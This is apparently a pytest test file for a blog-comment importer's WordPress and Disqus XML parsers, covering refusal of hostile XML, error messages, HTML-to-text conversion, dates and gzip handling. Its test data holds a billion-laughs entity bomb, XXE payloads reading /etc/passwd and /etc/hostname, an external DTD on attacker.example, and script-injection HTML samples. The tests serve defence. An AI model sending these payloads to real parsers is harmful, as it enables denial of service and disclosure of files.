"""Hostile and malformed XML is refused with a clear message; HTML to text; dates."""

from __future__ import annotations

import gzip
import io
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from service.core.imports import ImportedComment, ImportFormatError, ImportRefusedError
from service.core.imports._xml import html_to_text, open_export, parse_time
from service.core.imports.disqus import parse_disqus
from service.core.imports.wordpress import parse_wordpress
from tests.service.core.imports.exports import WXR_TAIL, WpComment, wp_item, wxr_head

Parser = Callable[[io.BytesIO, str], Iterator[ImportedComment]]
PARSERS = pytest.mark.parametrize("parse", [parse_wordpress, parse_disqus], ids=["wp", "disqus"])

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "laugh">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<rss><channel><item><link>https://x.example</link><comment>&i;</comment></item></channel></rss>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><link>https://x.example</link>
<wp:comment><wp:comment_id>1</wp:comment_id><wp:comment_content>&secret;</wp:comment_content>
<wp:comment_approved>1</wp:comment_approved></wp:comment></item></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">
<disqus><post id="1"><message>hi</message></post></disqus>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE disqus [<!ENTITY % remote SYSTEM "file:///etc/hostname"> %remote;]>
<disqus/>
"""


@PARSERS
@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused_for_safety(parse: Parser, document: str) -> None:
    with pytest.raises(ImportRefusedError, match="refused for safety") as caught:
        list(parse(io.BytesIO(document.encode()), "hostile.xml"))
    assert "root:" not in str(caught.value)
    assert "hostile.xml" in str(caught.value)


def test_an_entity_refused_in_the_middle_yields_nothing_after_it() -> None:
    """A DTD is refused where it is met: before the first comment, so nothing is read."""
    seen: list[ImportedComment] = []
    with pytest.raises(ImportRefusedError):
        seen.extend(parse_wordpress(io.BytesIO(EXTERNAL_ENTITY.encode()), "hostile.xml"))
    assert seen == []


@PARSERS
@pytest.mark.parametrize(
    ("document", "where"),
    [
        ("<ROOT><channel>\n<item>\n<link>x</lnk>", "line 3, column 10: mismatched tag"),
        ("", "line 1, column 1: no element found"),
        ("\x89PNG\r\n\x1a\n binary", "line 1, column 1: not well-formed"),
        ("just some text", "line 1, column 1: syntax error"),
        ("<ROOT>\n<channel>", "line 2, column 10: no element found"),
    ],
    ids=["mismatched", "empty", "binary", "text", "truncated"],
)
def test_malformed_xml_says_where(parse: Parser, document: str, where: str) -> None:
    root = "rss" if parse is parse_wordpress else "disqus"
    source = io.BytesIO(document.replace("ROOT", root).encode())
    with pytest.raises(ImportFormatError, match="^broken.xml: not well-formed XML at " + where):
        list(parse(source, "broken.xml"))


def test_an_error_after_some_comments_comes_after_them() -> None:
    good = wp_item("https://blog.example/p", [WpComment(1, "Fine."), WpComment(2, "Also fine.")])
    document = (
        wxr_head() + good + "<item><link>https://blog.example/q</link><wp:comment>" + WXR_TAIL
    )
    seen: list[ImportedComment] = []
    with pytest.raises(ImportFormatError, match="mismatched tag"):
        seen.extend(parse_wordpress(io.BytesIO(document.encode()), "cut.xml"))
    assert [c.text for c in seen] == ["Fine.", "Also fine."]


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("plain words", "plain words"),
        ("  fish &amp; chips  ", "fish & chips"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("<p>x</p>\n\n\n<p>y</p>", "x\n\ny"),
        ('<a href="https://e.example/p">https://e.example/p</a>', "https://e.example/p"),
        (
            '<a href="https://e.example/long/path">e.example/long/pa…</a>',
            "https://e.example/long/path",
        ),
        ('<a href="https://e.example/">click here</a>', "click here (https://e.example/)"),
        ('<a href="javascript:alert(1)">click</a>', "click"),
        ("<script>alert(1)</script>kept", "kept"),
        ("a &lt;b&gt; tag", "a <b> tag"),
        ("<ul><li>one</li><li>two</li></ul>", "one\n\ntwo"),
    ],
)
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2021-06-01 09:30:00", 1622539800.0),
        ("2021-06-01T09:30:00Z", 1622539800.0),
        ("2021-06-01T11:30:00+02:00", 1622539800.0),
        ("0000-00-00 00:00:00", None),
        ("", None),
        ("yesterday", None),
    ],
)
def test_parse_time(value: str, expected: float | None) -> None:
    assert parse_time(value) == expected


def test_a_gzipped_export_is_read_as_it_is_decompressed(tmp_path: Path) -> None:
    document = wxr_head() + wp_item("https://blog.example/p", [WpComment(1, "Fine.")]) + WXR_TAIL
    packed = tmp_path / "export.xml.gz"
    packed.write_bytes(gzip.compress(document.encode()))
    with packed.open("rb") as raw:
        reader, stream = open_export(raw)
        (comment,) = parse_wordpress(stream, packed.name)
        assert comment.text == "Fine."
        assert reader.position == packed.stat().st_size  # progress counts the file's bytes
    plain = tmp_path / "export.xml"
    plain.write_text(document, encoding="utf-8")
    with plain.open("rb") as raw:
        reader, stream = open_export(raw)
        assert [c.text for c in parse_wordpress(stream, plain.name)] == ["Fine."]
        assert reader.position == plain.stat().st_size


@pytest.mark.parametrize("cut", [20, -10], ids=["truncated-early", "truncated-late"])
def test_a_broken_gzip_file_is_a_clear_error(tmp_path: Path, cut: int) -> None:
    document = wxr_head() + wp_item("https://blog.example/p", [WpComment(1, "Fine.")]) + WXR_TAIL
    packed = tmp_path / "export.xml.gz"
    packed.write_bytes(gzip.compress(document.encode())[:cut])
    with packed.open("rb") as raw, pytest.raises(ImportFormatError, match="not a readable gzip"):
        list(parse_wordpress(open_export(raw)[1], packed.name))


def test_a_gzip_header_on_garbage(tmp_path: Path) -> None:
    packed = tmp_path / "export.xml.gz"
    packed.write_bytes(b"\x1f\x8b" + b"garbage" * 10)
    with packed.open("rb") as raw, pytest.raises(ImportFormatError, match="not a readable gzip"):
        list(parse_wordpress(open_export(raw)[1], packed.name))
